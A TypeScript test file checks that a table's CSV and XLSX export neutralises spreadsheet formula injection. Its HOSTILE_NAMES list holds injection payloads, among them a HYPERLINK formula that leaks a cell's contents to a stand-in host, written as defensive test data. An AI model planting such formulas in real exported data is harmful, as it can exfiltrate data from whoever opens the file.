import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { toCsv, xlsxBlob, type ExportTable } from '../src/lib/exportTable';

// Names an enterprise could be registered under (the import accepts any text as a name).
const HOSTILE_NAMES = ['=HYPERLINK("http://example.invalid/?d="&A1,"点此")', '+1+2', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

const table: ExportTable = {
  header: ['名称', '金额', '家数'],
  rows: [...HOSTILE_NAMES.map((name) => [name, '-250.00', -5]), ['太原市某煤矿', '1200.50', 3]],
};

describe('CSV export', () => {
  it('writes every formula-like name as text, with a leading apostrophe', () => {
    const lines = toCsv(table).split('\r\n');
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://example.invalid/?d=""&A1,""点此"")",-250.00,-5`);
    expect(lines[2]).toBe("'+1+2,-250.00,-5");
    expect(lines[3]).toBe("'-2+3,-250.00,-5");
    expect(lines[4]).toBe("'@SUM(A1:A9),-250.00,-5");
    expect(lines[5]).toBe("'\t=1+1,-250.00,-5");
    expect(lines[6]).toBe(`"'\r=1+1",-250.00,-5`);
  });

  it('keeps plain names and numbers, negative ones included, as they are', () => {
    const lines = toCsv(table).split('\r\n');
    expect(lines[7]).toBe('太原市某煤矿,1200.50,3');
    expect(lines[1].endsWith(',-250.00,-5')).toBe(true);
  });
});

/** Each cell of the first sheet: its type attribute, whether it holds a formula, and its text. */
async function readSheet(blob: Blob): Promise<Array<Array<{ type: string | null; formula: boolean; text: string }>>> {
  const entries = unzipSync(new Uint8Array(await blob.arrayBuffer()));
  const shared = entries['xl/sharedStrings.xml']
    ? [...strFromU8(entries['xl/sharedStrings.xml']).matchAll(/<si>([\s\S]*?)<\/si>/g)].map((m) => [...m[1].matchAll(/<t[^>]*>([\s\S]*?)<\/t>/g)].map((t) => t[1]).join(''))
    : [];
  const unescape = (text: string) => text.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&#(\d+);/g, (_m, code) => String.fromCharCode(Number(code))).replace(/&amp;/g, '&');
  const sheet = strFromU8(entries['xl/worksheets/sheet1.xml']);
  return [...sheet.matchAll(/<row[^>]*>([\s\S]*?)<\/row>/g)].map((row) =>
    [...row[1].matchAll(/<c([^>]*?)(?:\/>|>([\s\S]*?)<\/c>)/g)].map((cell) => {
      const type = /\bt="([^"]+)"/.exec(cell[1])?.[1] ?? null;
      const body = cell[2] ?? '';
      const value = /<v>([\s\S]*?)<\/v>/.exec(body)?.[1];
      const inline = /<t[^>]*>([\s\S]*?)<\/t>/.exec(body)?.[1];
      const text = type === 's' && value !== undefined ? shared[Number(value)] : (inline ?? value ?? '');
      return { type, formula: /<f[\s>]/.test(body), text: unescape(text) };
    }));
}

describe('XLSX export', () => {
  it('stores formula-like names as string cells, never as formulas, and numbers as numbers', async () => {
    const rows = await readSheet(await xlsxBlob(table, 'test'));
    expect(rows).toHaveLength(1 + table.rows.length);
    HOSTILE_NAMES.forEach((name, index) => {
      const [nameCell, , countCell] = rows[index + 1];
      expect(nameCell.formula).toBe(false);
      expect(['s', 'inlineStr', 'str']).toContain(nameCell.type);
      expect(nameCell.text.replace(/\r\n?/g, '\n')).toBe(name.replace(/\r\n?/g, '\n'));
      expect(countCell).toEqual({ type: null, formula: false, text: '-5' });
    });
  });
});
